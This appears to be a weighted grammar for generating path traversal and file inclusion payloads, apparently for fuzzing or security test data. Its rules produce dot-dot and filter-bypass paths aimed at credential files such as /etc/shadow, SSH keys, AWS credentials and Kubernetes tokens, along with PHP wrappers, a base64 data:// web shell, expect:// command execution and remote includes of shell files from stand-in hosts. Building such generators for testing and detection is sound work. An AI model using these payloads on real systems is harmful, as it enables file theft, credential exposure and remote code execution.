# Path traversal and local/remote file inclusion: dot-dot sequences in their
# filter-bypass forms, absolute paths, wrappers, truncation, Windows paths.

technique = [5] "dotdot" | [2] "dotdot_windows" | [2] "filter_bypass" | [2] "absolute_path"
	| [2] "wrapper" | [1] "null_truncation" | [1] "proc_self" | [1] "remote_include" | [1] "url_scheme" ;
place = [6] "param" | [3] "query" | [2] "path" | [1] "body" | [1] "cookie" | [1] "header" ;
target = [6] "file" | [2] "id" | [1] "text" | [1] "any" ;
encode = [5] "none" | [5] "raw" | [3] "pct" | [2] "double" | [2] "overlong" | [2] "mixed"
	| [1] "unicode" | [1] "full" ;
param = "file" | "filename" | "path" | "doc" | "template" | "page" | "include" | "download"
	| "img" | "lang" | "view" | "dir" | "folder" | "style" | "conf" ;
header = "X-Original-URL" | "X-Rewrite-URL" | "Referer" ;
cookie = "lang" | "template" | "theme" ;

up = "../" ;
ups = up{2,12} ;
bup = "..\\" ;
bups = bup{2,10} ;
base = [3] "" | "images/" | "static/" | "uploads/" | "/var/www/html/" | "docs/" | "./" | @word "/" ;
unix_target = "etc/passwd" | "etc/shadow" | "etc/hosts" | "etc/group" | "root/.ssh/id_rsa"
	| "root/.bash_history" | "home/" @word "/.ssh/authorized_keys" | "var/log/nginx/access.log"
	| "var/run/secrets/kubernetes.io/serviceaccount/token" | "proc/self/environ"
	| "app/.env" | "usr/local/app/config/database.yml" | "WEB-INF/web.xml" | "etc/nginx/nginx.conf"
	| "root/.aws/credentials" | "root/.docker/config.json" | "etc/kubernetes/admin.conf" ;
win_target = "windows\\win.ini" | "boot.ini" | "windows\\system32\\drivers\\etc\\hosts"
	| "inetpub\\wwwroot\\web.config" | "windows\\repair\\sam" | "Users\\Administrator\\NTUser.dat" ;
suffix = [4] "" | "\0" | "\0.png" | "?" | "#" | "/." | ".html" ;

dotdot = base ups unix_target suffix | ups unix_target | "/" ups unix_target | "." up ups unix_target ;
dotdot_windows = base bups win_target | bups win_target | "..\\..\\..\\" win_target | "..\\..\\" win_target
	| "/" ups "windows/win.ini" ;
filter_bypass = "....//"{2,8} unix_target | "..././"{2,8} unix_target | "..;/"{2,8} unix_target
	| "....\\\\"{2,6} win_target | "..//..//..//" unix_target | ". ./"{2,8} unix_target
	| "..\\/"{2,8} unix_target | "/.."{3,8} "/" unix_target | "/\\.."{3,8} "/" unix_target
	| "..." "/"{1,2} "..../" unix_target | "..\x00/"{2,6} unix_target ;
absolute_path = "/" unix_target | "/" unix_target "\0" | "C:\\" win_target | "c:/" win_target
	| "\\\\localhost\\c$\\" win_target | "//" unix_target | "/./" unix_target ;
wrapper = "php://filter/convert.base64-encode/resource=" ("index.php" | "config.php" | "../config.php" | "/etc/passwd")
	| "php://filter/read=string.rot13/resource=index.php" | "php://input" | "expect://id"
	| "zip://uploads/" @word ".zip#shell.php" | "phar://uploads/" @word ".jpg/x.php"
	| "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==" | "jar:file:///app/app.jar!/BOOT-INF/classes/application.properties" ;
null_truncation = ups unix_target "\0" ("." ("jpg" | "png" | "pdf" | "html")) | base ups unix_target "\0" ;
proc_self = ups ("proc/self/environ" | "proc/self/cmdline" | "proc/self/fd/" @int(0,20) | "proc/1/maps"
	| "proc/self/cwd/app.py" | "proc/net/tcp") | "/proc/self/environ" ;
remote_include = "http://" @word ".example/shell.txt?" | "https://pastebin.com/raw/" @alnum(8,8)
	| "//" @ip4 "/x.php" | "\\\\" @ip4 "\\share\\x.php" | "ftp://" @ip4 "/shell.php" ;
url_scheme = "file:///" unix_target | "file://localhost/" unix_target | "file:///c:/" win_target
	| "file:" ups unix_target ;
